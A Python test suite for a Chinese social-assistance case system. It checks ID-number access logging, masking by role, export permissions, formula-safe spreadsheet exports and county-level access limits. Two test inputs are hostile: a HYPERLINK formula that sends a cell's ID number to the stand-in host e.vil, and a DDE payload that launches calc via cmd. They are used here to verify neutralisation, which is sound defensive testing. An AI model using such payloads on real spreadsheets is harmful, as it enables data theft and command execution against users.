"""Personal data (PIPL): every answer that shows whole ID numbers logs who saw whom and why; one
rule decides who sees them; a file with whole numbers is a permission of its own; exported cells
never become formulas; a county's verification officer acts on the county's records only."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from openpyxl import Workbook, load_workbook

from safetynet.cases import selectors as case_selectors
from safetynet.cases import services as cases
from safetynet.cases.services import record_authorization
from safetynet.payments import services as payroll
from safetynet.registry import selectors as registry_selectors
from safetynet.registry.models import Area, Person
from safetynet.registry.selectors import Forbidden
from safetynet.site import demo
from safetynet.site.sheets import append_row
from safetynet.supervision.models import AccessLog, AuditEvent, LedgerItem
from safetynet.verification import services as verification
from safetynet.verification.models import CheckRun

MONTH = date(2026, 11, 1)
DELIVERED = date(2026, 10, 31)
FORMULA = '=HYPERLINK("http://e.vil/?"&C3,"点击查看")'  # a name fits 40 characters


def client_for(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def masked(number: str) -> str:
    return f"{number[:6]}********{number[-4:]}"


def write_csv(path, header: str, rows: list[str]):
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def office(city, poor_household, tmp_path):
    """One household of 任城区 370811001001 through the whole office: an approved dibao case paid
    for April 2024, a check against department data that found the head's deposit, and a ledger
    item about the head; and staff of 汶上县 who must not act on any of it."""
    approver = city["approver"]
    head = poor_household.members.get(relation="head")
    c = cases.start_precheck(city["clerk"], household=poor_household, programme="dibao", applicant=head,
                             on=date(2024, 3, 4))  # fmt: skip
    c = cases.accept(city["clerk"], c, version=c.version, on=date(2024, 3, 4))
    c = cases.record_home_visit(city["clerk"], c, version=c.version, on=date(2024, 3, 5), investigators=["甲", "乙"],
                                family_signed=True, findings="属实")  # fmt: skip
    c = cases.approve(approver, c, version=c.version, on=date(2024, 3, 6))
    c = cases.close_notice(approver, c, version=c.version, on=date(2024, 3, 14))
    township = Area.objects.get(code="370811001")
    run = payroll.run_payroll(city["city_admin"], month=date(2024, 4, 1), township=township, programme="dibao")
    run = payroll.approve_payroll(approver, run)
    for p in poor_household.members.all():
        record_authorization(city["clerk"], id_number=p.id_number, signed_on=date(2026, 11, 2), document=f"SQ{p.pk}",
                             person=p)  # fmt: skip
    deposits = write_csv(tmp_path / "deposits.csv", "id_number,institution,balance,as_of",
                         [f"{head.id_number},济宁银行,250000.00,2026-10-31",
                          f"{head.id_number},济宁银行,=1+2,2026-10-31"])  # fmt: skip
    delivery, _ = verification.import_delivery(city["verifier"], deposits, "deposits", DELIVERED)
    check = verification.check_household(city["verifier"], poor_household, month=MONTH)
    item = LedgerItem.objects.create(
        kind="owns_car", area=Area.objects.get(code="370811001001"), household_no="3708110019999999",
        id_number=head.id_number, programme="dibao", month=MONTH, evidence="登记机动车 1 辆：鲁H12345",
        sources="vehicles",
    )  # fmt: skip
    return {
        **city, "household": poor_household, "head": head, "members": {p.pk for p in poor_household.members.all()},
        "case": c, "run": run, "check": check, "item": item, "delivery": delivery,
        "wenshang_county": demo.make_staff("wenshang_county", "county", "370830"),
        "wenshang_verifier": demo.make_staff("wenshang_verifier", "verifier", "370830"),
    }  # fmt: skip


def surfaces(o):
    """Every page, list, export and API answer that shows whole ID numbers: who asks, and the
    purpose, object and persons its access-log row must name."""
    h, c, run, check, item = o["household"], o["case"], o["run"], o["check"], o["item"]
    members, head, recipients = o["members"], {o["head"].pk}, {o["head"].pk}
    return [
        ("clerk", "get", "/households/", {"q": o["head"].name}, "search", "household", members),
        ("clerk", "get", f"/households/{h.pk}/", {}, "view", "household", members),
        ("clerk", "get", f"/cases/{c.pk}/", {}, "view", "case", members),
        ("clerk", "get", "/api/v1/households", {"q": o["head"].name}, "search", "household", members),
        ("clerk", "get", f"/api/v1/households/{h.pk}", {}, "view", "household", members),
        ("clerk", "get", "/api/v1/cases", {}, "list", "case", head),
        ("clerk", "get", f"/api/v1/cases/{c.pk}", {}, "view", "case", head),
        ("approver", "get", f"/payroll/{run.pk}/", {}, "list", "payroll", recipients),
        ("approver", "get", f"/api/v1/payrolls/{run.pk}/lines", {}, "list", "payroll", recipients),
        ("approver", "get", f"/payroll/{run.pk}/roster.xlsx", {}, "export", "payroll", recipients),
        ("approver", "get", f"/payroll/{run.pk}/bank.csv", {}, "export", "payroll", recipients),
        ("verifier", "get", f"/verification/runs/{check.pk}/", {}, "list", "check_run", head),
        ("verifier", "get", f"/api/v1/verification/runs/{check.pk}/results", {}, "list", "check_run", head),
        ("verifier", "get", "/verification/ledger/", {}, "list", "ledger_item", head),
        ("verifier", "get", "/api/v1/verification/ledger", {}, "list", "ledger_item", head),
        ("verifier", "get", "/verification/ledger.xlsx", {}, "export", "ledger", head),
        ("clerk", "post", f"/api/v1/verification/ledger/{item.pk}/close", {"outcome": "车辆已过户"}, "view",
         "ledger_item", head),
    ]  # fmt: skip


def test_every_answer_with_whole_numbers_logs_who_saw_whom_when_and_why(office):
    number = office["head"].id_number
    chain = AuditEvent.objects.count()
    for who, method, url, data, purpose, object_type, persons in surfaces(office):
        before = AccessLog.objects.count()
        c = client_for(office[who])
        if method == "get":
            r = c.get(url, data)
        else:
            r = c.post(url, json.dumps(data), content_type="application/json")
        assert r.status_code == 200, url
        assert number.encode() in r.content or url.endswith(".xlsx"), url  # whole numbers were shown
        assert AccessLog.objects.count() == before + 1, url
        log = AccessLog.objects.latest("id")
        assert (log.actor, log.actor_name, log.purpose, log.object_type, log.full_id) == (
            office[who], who, purpose, object_type, True), url
        assert set(log.persons.values_list("person_id", flat=True)) == persons, url
        assert log.count >= len(persons) and log.at is not None
    # reading takes nothing from the audit chain (and its lock): only the ledger item's closing did
    assert list(AuditEvent.objects.filter(pk__gt=0).order_by("id").values_list("action", flat=True)[chain:]) == [
        "payroll.export", "ledger.close"]


def test_reading_through_a_selector_writes_nothing(office):
    logs, events = AccessLog.objects.count(), AuditEvent.objects.count()
    registry_selectors.household_for(office["clerk"], office["household"].pk)
    case_selectors.case_for(office["clerk"], office["case"].pk)
    assert (AccessLog.objects.count(), AuditEvent.objects.count()) == (logs, events)


def test_the_county_sees_masked_numbers_in_the_registry_and_the_ledger_alike(office):
    number, h, item = office["head"].id_number, office["household"], office["item"]
    pages = [f"/households/{h.pk}/", f"/cases/{office['case'].pk}/", f"/payroll/{office['run'].pk}/",
             "/verification/ledger/", f"/verification/runs/{office['check'].pk}/"]  # fmt: skip
    apis = [f"/api/v1/households/{h.pk}", f"/api/v1/cases/{office['case'].pk}",
            f"/api/v1/payrolls/{office['run'].pk}/lines", "/api/v1/verification/ledger",
            f"/api/v1/verification/runs/{office['check'].pk}/results"]  # fmt: skip
    for who in ("county", "city_admin", "auditor"):
        c = client_for(office[who])
        for url in pages + apis:
            body = c.get(url).content.decode()
            assert number not in body and masked(number) in body, (who, url)
        assert AccessLog.objects.filter(actor=office[who], full_id=True).count() == 0, who
    # the verification officer: whole numbers in the centre's work, masked in casework
    c = client_for(office["verifier"])
    assert number in c.get("/verification/ledger/").content.decode()
    assert number in c.get(f"/verification/runs/{office['check'].pk}/").content.decode()
    assert [r["id_number"] for r in c.get("/api/v1/verification/ledger").json()["results"] if r["id"] == item.pk] == [
        number]
    household = c.get(f"/households/{h.pk}/").content.decode()
    assert number not in household and masked(number) in household
    # and the township's clerk sees them whole in both
    c = client_for(office["clerk"])
    assert number in c.get(f"/households/{h.pk}/").content.decode()
    assert number in c.get("/verification/ledger/").content.decode()


def ledger_ids(response) -> set[str]:
    return {row[3] for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True)}


def roster_ids(response) -> set[str]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return {row[2] for row in sheet.iter_rows(min_row=3, values_only=True) if row[0] != "合计"}


def test_a_file_with_whole_numbers_is_a_permission_of_its_own_and_is_logged(office):
    number, run = office["head"].id_number, office["run"]
    # The clerk sees whole numbers on the page but may not take them away in a file.
    assert ledger_ids(client_for(office["clerk"]).get("/verification/ledger.xlsx")) == {masked(number)}
    log = AccessLog.objects.latest("id")
    assert (log.actor, log.purpose, log.full_id, log.count) == (office["clerk"], "export", False, 1)
    assert ledger_ids(client_for(office["verifier"]).get("/verification/ledger.xlsx")) == {number}
    assert roster_ids(client_for(office["approver"]).get(f"/payroll/{run.pk}/roster.xlsx")) == {number}
    # Without the permission the approver's roster is masked, and the bank file (which cannot be) refused.
    office["approver"].user_permissions.remove(Permission.objects.get(codename="export_full_id"))
    c = client_for(office["approver"])
    assert roster_ids(c.get(f"/payroll/{run.pk}/roster.xlsx")) == {masked(number)}
    log = AccessLog.objects.latest("id")
    assert (log.purpose, log.object_type, log.full_id, log.count) == ("export", "payroll", False, 1)
    refused = c.get(f"/payroll/{run.pk}/bank.csv", follow=True)
    assert "导出含完整身份证号码的银行发放文件" in refused.content.decode()
    assert AccessLog.objects.filter(purpose="export").latest("id") == log  # nothing was exported
    # The permission is granted like any other, by an administrator.
    office["county"].user_permissions.add(Permission.objects.get(codename="export_full_id"))
    assert ledger_ids(client_for(office["county"]).get("/verification/ledger.xlsx")) == {number}


def test_formula_like_text_stays_text_in_every_sheet_and_negative_amounts_stay_numbers(office):
    head, run, item = office["head"], office["run"], office["item"]
    Person.objects.filter(pk=head.pk).update(name=FORMULA)
    LedgerItem.objects.filter(pk=item.pk).update(evidence="@SUM(1+1)*cmd|' /C calc'!A0", outcome="-2+3")
    roster = load_workbook(io.BytesIO(client_for(office["approver"]).get(f"/payroll/{run.pk}/roster.xlsx").content))
    (name_cell,) = [row[1] for row in roster.active.iter_rows(min_row=3) if row[1].value == FORMULA]
    assert name_cell.data_type != "f" and name_cell.value == FORMULA
    ledger = load_workbook(io.BytesIO(client_for(office["verifier"]).get("/verification/ledger.xlsx").content)).active
    assert ledger["G2"].value.startswith("@SUM") and ledger["G2"].data_type != "f"
    # no cell of either file is a formula
    for sheet in (roster.active, ledger):
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # the rejected "=1+2" of the department's file, in the rejection report in both formats
    url = f"/verification/deliveries/{office['delivery'].pk}/rejections"
    rejections = load_workbook(io.BytesIO(client_for(office["verifier"]).get(f"{url}.xlsx").content)).active
    (value,) = [row[3] for row in rejections.iter_rows(min_row=2) if row[3].value == "=1+2"]
    assert value.data_type != "f"
    text = client_for(office["verifier"]).get(f"{url}.csv").content.decode("utf-8-sig")
    assert "'=1+2" in [row[3] for row in csv.reader(io.StringIO(text))]
    # only text is neutralised: a negative amount (a recovery) is still a number
    ws = Workbook().active
    append_row(ws, ["追回", -390.0, "-390.00", 0])
    assert [(c.value, c.data_type) for c in ws[1]] == [("追回", "s"), (-390.0, "n"), ("-390.00", "s"), (0, "n")]
    assert ws["C1"].quotePrefix and not ws["B1"].quotePrefix


def test_a_verifier_of_another_county_acts_on_nothing_of_this_one(office):
    outsider, item, check = office["wenshang_verifier"], office["item"], office["check"]
    c = client_for(outsider)
    assert c.post(f"/verification/ledger/{item.pk}/close/", {"outcome": "x"}).status_code == 404
    r = c.post(f"/api/v1/verification/ledger/{item.pk}/close", json.dumps({"outcome": "x"}),
               content_type="application/json")  # fmt: skip
    assert r.status_code == 404
    with pytest.raises(Forbidden):
        verification.close_ledger_item(outsider, item, outcome="x", on=MONTH)
    item.refresh_from_db()
    assert item.status == LedgerItem.Status.OPEN
    # nor start a check of this county's township or household, by page, API or service
    start = {"kind": "township", "township": "370811001", "month": "2026-11"}
    assert c.post("/api/v1/verification/runs", json.dumps(start), content_type="application/json").status_code in (
        403, 404)
    assert "请选择辖区内的乡镇" in c.post("/verification/runs/start/", start, follow=True).content.decode()
    with pytest.raises(Forbidden):
        verification.check_household(outsider, office["household"], month=MONTH)
    with pytest.raises(Forbidden):  # its own county as the run's area, with another county's household
        verification.check_households(outsider, [office["household"]], month=MONTH, kind=CheckRun.Kind.TOWNSHIP,
                                      area=Area.objects.get(code="370830"))  # fmt: skip
    assert not CheckRun.objects.filter(requested_by=outsider).exists()
    # nor read this county's check, or the rejected rows of a delivery this county imported
    for url in (f"/verification/runs/{check.pk}/", f"/api/v1/verification/runs/{check.pk}/results",
                f"/verification/deliveries/{office['delivery'].pk}/rejections/",
                f"/verification/deliveries/{office['delivery'].pk}/rejections.csv"):  # fmt: skip
        assert c.get(url).status_code == 404, url
    assert c.get("/api/v1/verification/deliveries").json()["count"] == 0
    assert client_for(office["city_admin"]).get("/api/v1/verification/deliveries").json()["count"] == 1
    assert not AccessLog.objects.filter(actor=outsider).exists()
